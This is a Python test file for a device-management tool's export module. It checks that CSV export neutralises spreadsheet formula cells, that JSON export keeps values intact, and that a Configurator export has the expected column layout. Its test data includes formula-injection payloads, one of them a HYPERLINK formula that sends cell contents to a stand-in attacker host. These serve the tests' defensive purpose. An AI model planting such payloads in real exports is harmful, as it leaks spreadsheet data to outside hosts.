"""Exports: CSV cells a spreadsheet would run as formulas are neutralised; JSON keeps every value as it is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from stationd.export import device_rows, to_csv, to_json
from stationd.store import open_store

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1)': "name",
    "+SUM(1,2)": "model",
    "-2+3": "serial",
    "@cmd": "ios_version",
    "\t=1+1": "build",
}


@pytest.mark.anyio
async def test_formula_cells_are_neutralised_in_csv_and_kept_in_json(tmp_path: Path) -> None:
    async with open_store(tmp_path / "stationd.db") as store:
        await store.upsert_device(
            "UDID-1",
            serial="-2+3",
            ecid=12,
            name='=HYPERLINK("http://evil.example/?"&A1)',
            facts={"product_type": "+SUM(1,2)", "product_version": "@cmd", "build_version": "\t=1+1"},
        )
        await store.upsert_device(
            "UDID-2", serial="F9FXK2LQ", name="Lincoln-F9FXK2LQ", facts={"product_type": "iPad13,18"}
        )
        rows = await device_rows(store)
    exported = {row["udid"]: row for row in csv.DictReader(io.StringIO(to_csv(rows)))}
    hostile, plain = exported["UDID-1"], exported["UDID-2"]
    for value, field in HOSTILE.items():
        assert hostile[field] == "'" + value
    assert hostile["ecid"] == "12" and plain["serial"] == "F9FXK2LQ" and plain["name"] == "Lincoln-F9FXK2LQ"
    assert plain["model"] == "iPad13,18"
    as_json = {row["udid"]: row for row in json.loads(to_json(rows))}
    for value, field in HOSTILE.items():
        assert as_json["UDID-1"][field] == value


def test_configurator_export_has_configurators_columns_in_its_order(tmp_path: Path) -> None:
    import anyio
    from typer.testing import CliRunner

    from stationd.cli import app
    from stationd.export import CONFIGURATOR_FIELDS

    facts = {
        "product_type": "iPad13,18",
        "product_version": "17.5.1",
        "build_version": "21F90",
        "capacity": 64_000_000_000,
        "free": 51_234_000_000,
        "wifi_address": "f0:18:98:00:00:01",
        "bluetooth_address": "f0:18:98:00:00:02",
        "battery_level": 87,
        "charging": True,
        "supervised": True,
        "organization": "Lincoln School",
    }

    async def record() -> None:
        async with open_store(tmp_path / "stationd.db") as store:
            await store.upsert_device(
                "UDID-1",
                serial="F9FXK2LQ",
                ecid=0x1D481C2E300026,
                name="Lincoln-1",
                facts=facts,
                port_label="A1",
                station_id="station-1",
            )
            await store.upsert_device("UDID-2", serial="-2+3", facts={})

    anyio.run(record)
    config = tmp_path / "stationd.toml"
    config.write_text('[organization]\nname = "Lincoln School"\n[station]\ndatabase = "stationd.db"\n')
    config.chmod(0o600)
    result = CliRunner().invoke(app, ["export", "--format", "configurator", "--config", str(config)])
    assert result.exit_code == 0, result.output
    header, first, second = list(csv.reader(io.StringIO(result.stdout)))
    assert header == [heading for heading, _ in CONFIGURATOR_FIELDS]
    assert header[:5] == ["name", "serialNumber", "UDID", "ECID", "deviceType"]
    assert dict(zip(header, first, strict=True)) == {
        "name": "Lincoln-1",
        "serialNumber": "F9FXK2LQ",
        "UDID": "UDID-1",
        "ECID": "0x1D481C2E300026",
        "deviceType": "iPad13,18",
        "firmwareVersion": "17.5.1",
        "buildVersion": "21F90",
        "totalDiskCapacity": "64000000000",
        "totalSpaceAvailable": "51234000000",
        "wifiAddress": "f0:18:98:00:00:01",
        "bluetoothAddress": "f0:18:98:00:00:02",
        "batteryCurrentCapacity": "87",
        "batteryIsCharging": "true",
        "isSupervised": "true",
        "organizationName": "Lincoln School",
    }
    assert second[1] == "'-2+3" and second[3:] == [""] * (len(header) - 3), "unknown facts are empty, never guessed"
    status = CliRunner().invoke(app, ["status", "--config", str(config)], terminal_width=160)
    assert "A1" in status.stdout and "87 %" in status.stdout, status.stdout
    wrong = CliRunner().invoke(app, ["export", "--format", "xml", "--config", str(config)])
    assert wrong.exit_code == 2 and "csv, json or configurator" in wrong.stderr
